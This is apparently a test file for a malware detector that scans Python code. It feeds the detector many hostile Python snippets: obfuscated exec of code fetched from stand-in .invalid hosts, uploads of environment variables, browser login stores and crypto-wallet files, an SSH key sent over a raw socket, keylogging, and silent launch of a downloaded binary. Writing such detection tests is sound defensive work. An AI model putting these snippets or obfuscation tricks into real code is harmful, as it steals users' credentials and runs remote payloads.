import { deflateSync } from 'node:zlib'
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import type { ActKind } from '../../act.ts'
import { readPython } from './testing.ts'

const base64 = (text: string) => Buffer.from(text).toString('base64')

function acts(code: string | Record<string, string>, kind: ActKind, environment?: Record<string, string>) {
  const sources = typeof code === 'string' ? { 'a.py': code } : code
  const { acts: all, problem } = readPython(sources, environment)
  expect(problem).toBe('')
  return all.filter((act) => act.kind === kind)
}

const PAYLOAD = "import requests\nexec(requests.get('https://second.invalid/x').text)\n"

describe('code that is run out of a text', () => {
  test.each([
    ['base64', `import base64\nexec(base64.b64decode("${base64(PAYLOAD)}"))`],
    ['decoded text', `from base64 import b64decode as d\nexec(d('${base64(PAYLOAD)}').decode('utf-8'))`],
    [
      'zlib and base64',
      `import zlib, base64\nexec(zlib.decompress(base64.b64decode(b'${deflateSync(PAYLOAD).toString('base64')}')))`,
    ],
    [
      'a chain of lambdas over a reversed text',
      `_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'${[...deflateSync(PAYLOAD).toString('base64')].reverse().join('')}'))`,
    ],
    ['character codes', `exec(''.join(map(chr, [${[...PAYLOAD].map((c) => c.charCodeAt(0)).join(',')}])))`],
    [
      'a comprehension of codes',
      `exec("".join([chr(x) for x in [${[...PAYLOAD].map((c) => c.charCodeAt(0)).join(',')}]]))`,
    ],
    ['a list of bytes', `exec(bytes([${[...Buffer.from(PAYLOAD)].join(',')}]).decode())`],
    [
      'XOR with a key',
      `k = b'key'\nd = bytes([${[...Buffer.from(PAYLOAD)].map((b, i) => b ^ (Buffer.from('key')[i % 3] ?? 0)).join(',')}])\nexec(bytes([b ^ k[i % len(k)] for i, b in enumerate(d)]).decode())`,
    ],
    ['hexadecimal', `exec(bytes.fromhex('${Buffer.from(PAYLOAD).toString('hex')}').decode())`],
    [
      'a codec',
      `import codecs\nexec(codecs.decode('${Buffer.from(PAYLOAD).toString('hex')}', 'hex').decode())`,
    ],
    [
      'names put together',
      `getattr(__builtins__, 'ex' + 'ec')(__import__('base' + '64').b64decode('${base64(PAYLOAD)}'))`,
    ],
    [
      'globals',
      `globals()['__buil'+'tins__'].eval(compile(__import__('base64').b64decode('${base64(PAYLOAD)}'),'<x>','exec'))`,
    ],
    [
      'a loop',
      `s = ''\nfor c in [${[...PAYLOAD].map((c) => c.charCodeAt(0) + 3).join(',')}]:\n    s += chr(c - 3)\nexec(s)`,
    ],
  ])('%s', (_, code) => {
    const found = acts(code, 'run-code')
    expect(found.some(({ origins }) => origins.includes('network'))).toBe(true)
    expect(found.every(({ origins }) => origins.includes('decoded') || origins.includes('assembled'))).toBe(
      true,
    )
    expect(acts(code, 'download').flatMap(({ values }) => values)).toContain('https://second.invalid/x')
  })

  test('fifty layers', () => {
    let code = PAYLOAD
    for (let layer = 0; layer < 50; layer++)
      code = `import zlib,base64\nexec(zlib.decompress(base64.b64decode('${deflateSync(code).toString('base64')}')))`
    expect(acts(code, 'download').map(({ values }) => values)).toEqual([['https://second.invalid/x']])
  })

  test('the place is where it stands in the file', () => {
    const [act] = acts(`x = 1\n\nimport base64\nexec(base64.b64decode("${base64(PAYLOAD)}"))`, 'download')
    expect(act?.where).toMatchObject({ file: 'a.py', line: 4, column: 1 })
  })

  test('an answer that is run', () => {
    const code =
      'import urllib.request as u\ndef get(url):\n    with u.urlopen(url) as r:\n        return r.read().decode()\nexec(get("https://x.invalid/" + "a"))'
    expect(acts(code, 'run-code')[0]?.origins).toContain('network')
    expect(acts(code, 'download')[0]?.values).toEqual(['https://x.invalid/a'])
  })

  test('a method that runs what another fetched', () => {
    const code =
      'import requests\nclass A:\n    def __init__(self):\n        self.s = requests.Session()\n    def load(self):\n        self.t = self.s.get("https://x.invalid").text\n    def go(self):\n        self.load()\n        eval(self.t)\n'
    expect(acts(code, 'run-code')[0]?.origins).toContain('network')
  })
})

test('constants and functions of other modules', () => {
  const code = {
    'app/main.py': 'from .config import URL\nfrom app import tools\ntools.run(tools.fetch(URL))',
    'app/config.py': `import base64\nURL = base64.b64decode("${base64('https://far.invalid/s')}").decode()`,
    'app/tools.py':
      'import requests\ndef fetch(url): return requests.get(url).text\ndef run(code): exec(code)\n',
    'app/__init__.py': '',
  }
  const { handOvers } = readPython(code)
  expect(acts(code, 'run-code')[0]).toMatchObject({ where: { line: 3 }, origins: ['network'] })
  expect(acts(code, 'download')[0]?.values).toEqual(['https://far.invalid/s'])
  expect(handOvers.filter(({ to }) => to === 'module').map(({ value }) => value)).toContain('.config')
})

test('compiled code that a caller hands in is not hidden by this program', () => {
  const loader =
    'import marshal\ndef load(data, names):\n    exec(marshal.loads(memoryview(data)[16:]), names)\n'
  expect(acts(loader, 'run-code')[0]?.origins).not.toContain('decoded')
  const file = 'import marshal\nexec(marshal.loads(open("cache.bin", "rb").read()))\n'
  expect(acts(file, 'run-code')[0]?.origins).toContain('decoded')
})

test('a variable that .env sets', () => {
  const code =
    'import os, base64, requests\nexec(requests.get(base64.b64decode(os.environ["KEY"]).decode()).text)'
  expect(acts(code, 'download', { KEY: base64('https://env.invalid') })[0]?.values).toEqual([
    'https://env.invalid',
  ])
})

describe('what is taken and sent', () => {
  test('the whole environment, not one variable', () => {
    expect(
      acts('import os, requests\nrequests.post("https://x.invalid", json=dict(os.environ))', 'upload')[0]
        ?.origins,
    ).toContain('environment')
    expect(
      acts(
        'import os, requests\nrequests.post("https://x.invalid", headers={"a": os.environ["KEY"]})',
        'upload',
      )[0]?.origins,
    ).not.toContain('environment')
  })

  test('a browser’s store', () => {
    const code =
      'import os, sqlite3, requests\np = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Default", "Login Data")\nrows = sqlite3.connect(p).execute("select 1").fetchall()\nrequests.post("https://x.invalid", data={"r": rows})'
    expect(acts(code, 'read-secret')[0]?.values[0]).toMatch(/Login Data$/)
    expect(acts(code, 'upload')[0]?.origins).toContain('secret')
  })

  test('wallets listed by their ids', () => {
    const code =
      'import os, requests\nids = ["nkbihfbeogaeaoehlefnkodbefgpgknn"]\nhome = os.path.expanduser("~")\nfor i in ids:\n    p = os.path.join(home, ".config/google-chrome/Default/Local Extension Settings", i)\n    for f in os.listdir(p):\n        requests.post("https://x.invalid", files={"f": open(os.path.join(p, f), "rb")})'
    expect(acts(code, 'read-secret').length).toBeGreaterThan(0)
    expect(acts(code, 'upload')[0]?.origins).toContain('secret')
  })

  test('clipboard, screen, keys', () => {
    const code =
      'import pyperclip\nfrom PIL import ImageGrab\nfrom pynput.keyboard import Listener\npyperclip.paste()\nImageGrab.grab()\nListener(on_press=print)'
    for (const kind of ['read-clipboard', 'capture-screen', 'log-keys'] as const)
      expect(acts(code, kind)).toHaveLength(1)
  })

  test('a socket', () => {
    const code =
      'import socket, os\ns = socket.socket()\ns.connect(("10.0.0.1", 4444))\ns.send(open(os.path.expanduser("~/.ssh/id_rsa")).read())\nexec(s.recv(1024))'
    expect(acts(code, 'upload')[0]).toMatchObject({ values: ['10.0.0.1:4444'] })
    expect(acts(code, 'upload')[0]?.origins).toContain('secret')
    expect(acts(code, 'run-code')[0]?.origins).toContain('network')
  })
})

test('programs that are started, and what was written before', () => {
  const code =
    'import urllib.request, subprocess, os\nurllib.request.urlretrieve("https://x.invalid/a", "/tmp/a")\nos.chmod("/tmp/a", 0o755)\nsubprocess.Popen(["/tmp/a"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)'
  expect(acts(code, 'run-program')[0]).toMatchObject({ values: ['/tmp/a'], origins: ['network'] })
  expect(acts(code, 'make-executable')).toHaveLength(1)
  expect(acts(code, 'hide')).toHaveLength(1)
})

test('cells of a notebook are code, on their own lines', () => {
  const notebook = JSON.stringify(
    {
      cells: [
        { cell_type: 'markdown', source: ['exec(1)\n'] },
        { cell_type: 'code', source: ['import requests\n', 'exec(requests.get("https://x.invalid").text)'] },
      ],
    },
    null,
    1,
  )
  const found = acts({ 'a.ipynb': notebook }, 'run-code')
  expect(found).toHaveLength(1)
  expect(notebook.split('\n')[(found[0]?.where.line ?? 0) - 1]).toContain('exec(requests')
})

test('lines of a .pth file that begin with import', () => {
  expect(
    acts({ 'a.pth': '# x\n/some/path\nimport os; exec(os.popen("x").read())\n' }, 'run-code'),
  ).toHaveLength(1)
})

test('honest code does little', () => {
  const code =
    '"""Reads ~/.ssh/id_rsa? No: Login Data"""\nimport os\nimport json\n\ndef main(path):\n    with open(path) as f:\n        return json.load(f)["a" + "b"]\n'
  expect(readPython({ 'a.py': code }).acts).toEqual([])
})

test('nothing makes it throw', () => {
  const words = [
    'exec(',
    'eval',
    ')',
    'a',
    '=',
    '[',
    ']',
    '(',
    'lambda x:',
    'for x in',
    ':',
    '\n',
    '  ',
    '"',
    "f'{",
    '}',
    '+',
    '[::-1]',
    'import os',
    'class A:',
    '.b',
    '**',
    'if',
  ]
  fc.assert(
    fc.property(fc.array(fc.constantFrom(...words), { maxLength: 60 }), (parts) => {
      expect(() => readPython({ 'a.py': `exec\n${parts.join('')}` })).not.toThrow()
    }),
    { numRuns: 300 },
  )
})

test('what is nested or repeated without end is told, not followed', () => {
  expect(readPython({ 'a.py': `exec(${'('.repeat(20_000)}` }).problem).not.toBe('')
  expect(acts(`exec(${Array.from({ length: 20_000 }, () => '"a"').join('+')})`, 'run-code')).toHaveLength(1)
  expect(
    acts(
      'exec("def f(): return f() + f()\\nf()")\nfor a in range(9999):\n  for b in range(9999):\n    for c in range(9999): x = a',
      'run-code',
    ),
  ).toHaveLength(1)
  expect(acts('s = "exec(s)"\nexec(s)', 'run-code').length).toBeLessThan(5)
})
